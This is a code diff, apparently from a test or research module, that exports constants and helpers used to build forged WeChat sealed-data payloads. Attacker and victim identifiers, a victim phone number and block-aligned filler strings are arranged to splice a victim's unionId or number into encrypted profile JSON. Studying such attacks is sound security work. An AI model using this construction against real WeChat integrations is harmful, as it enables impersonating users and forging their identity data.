@@ -14,8 +14,8 @@ type Data = Record<string, unknown>;
 
 export const APP_ID = "wx0123456789abcdef";
 export const OPENID = "oAttacker0123456789012345678";
-const OWN_UNIONID = "oAttackersOwnUnionid00000000";
-const VICTIM = "ocMvos6NjeKLIBqg5Mr9QjxrP1FA";
+export const OWN_UNIONID = "oAttackersOwnUnionid00000000";
+export const VICTIM = "ocMvos6NjeKLIBqg5Mr9QjxrP1FA";
 const VICTIMS_NUMBER = "+8613800138000";
 const VICTIMS_GROUP = "tGBfqg0123456789abcdef_-ABCD";
 const AVATAR_URL = `https://thirdwx.qlogo.cn/mmopen/vi_32/${"Q3auHgzwzM4".repeat(7)}/132`;
@@ -38,7 +38,7 @@ export interface Variant {
 }
 
 /** The texts that WeChat seals, with members in WeChat's order. */
-const profileOf = (nickName: string) => ({
+export const profileOf = (nickName: string) => ({
   nickName,
   gender: 0,
   language: "zh_CN",
@@ -47,7 +47,7 @@ const profileOf = (nickName: string) => ({
   country: "",
   avatarUrl: AVATAR_URL,
 });
-function userInfo(nickName: string, unionId?: string): string {
+export function userInfo(nickName: string, unionId?: string): string {
   const profile = profileOf(nickName);
   return JSON.stringify({ openId: OPENID, ...profile, ...(unionId && { unionId }), watermark: WATERMARK });
 }
@@ -66,10 +66,10 @@ const DAYS = Array.from({ length: 31 }, (_, day) => ({
 const WERUN_DATA = JSON.stringify({ stepInfoList: DAYS, watermark: WATERMARK });
 
 const BEGINNING = `{"openId":"${OPENID}","nickName":"`;
-const FILLER = fillerBehind(BEGINNING);
+export const FILLER = fillerBehind(BEGINNING);
 /** The block that begins behind the filler. */
-const AT = (BEGINNING + FILLER).length / 16;
-const STEM = '","unionId":"';
+export const AT = (BEGINNING + FILLER).length / 16;
+export const STEM = '","unionId":"';
 const SPLIT = 16 - STEM.length;
 const UNIONID_NAME = FILLER + VICTIM.slice(SPLIT);
 /** What opens from the iv, with a string that stays open. */
@@ -128,7 +128,7 @@ function attackWithJump(
   };
 }
 
-const HOSTING = userInfo(UNIONID_NAME);
+export const HOSTING = userInfo(UNIONID_NAME);
 const HOSTING_OWN = userInfo(UNIONID_NAME, OWN_UNIONID);
 const LAST_OF_AVATAR = blockInside(HOSTING, AVATAR_URL);
 
@@ -162,9 +162,9 @@ const PHONE_TEXT = userInfo(FILLER + VICTIMS_NUMBER);
 const QUOTED_TEXT = userInfo(`${fillerBehind(`${BEGINNING}\\`)}"${VICTIMS_NUMBER}`);
 const QUOTED_AT = QUOTED_TEXT.indexOf(`"${VICTIMS_NUMBER}`) / 16;
 /** The own unionid begins at a block here. */
-const OWN_FILLER = fillerBehind(userInfo("", OWN_UNIONID).split(OWN_UNIONID)[0] as string);
-const OWN_TEXT = userInfo(OWN_FILLER, OWN_UNIONID);
-const OWN_AT = OWN_TEXT.indexOf(OWN_UNIONID) / 16;
+export const OWN_FILLER = fillerBehind(userInfo("", OWN_UNIONID).split(OWN_UNIONID)[0] as string);
+export const OWN_TEXT = userInfo(OWN_FILLER, OWN_UNIONID);
+export const OWN_AT = OWN_TEXT.indexOf(OWN_UNIONID) / 16;
 const ANONYMOUS_TEXT = userProfile("-".repeat(40));
 const PURE_AT = PHONE_DATA.lastIndexOf(NUMBER) / 16;
 /** The watermark from its name's last four letters on begins at a block here. */
